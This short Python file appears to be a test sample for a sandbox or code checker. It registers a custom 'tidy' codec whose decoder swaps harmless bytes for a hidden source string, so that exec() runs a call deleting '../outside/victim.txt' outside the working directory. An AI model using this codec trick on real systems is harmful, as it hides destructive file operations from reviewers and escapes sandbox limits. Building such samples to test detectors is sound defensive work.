# A codec of its own turns harmless bytes into another source.
# damage: deleted
import codecs

HIDDEN = "import os; os.unlink('../outside/victim.txt')"


def search(name):
    if name == "tidy":
        decode = lambda data, errors="strict": (HIDDEN, len(data))
        return codecs.CodecInfo(codecs.utf_8_encode, decode, name="tidy")


codecs.register(search)
exec(b"print('hello')".decode("tidy"))
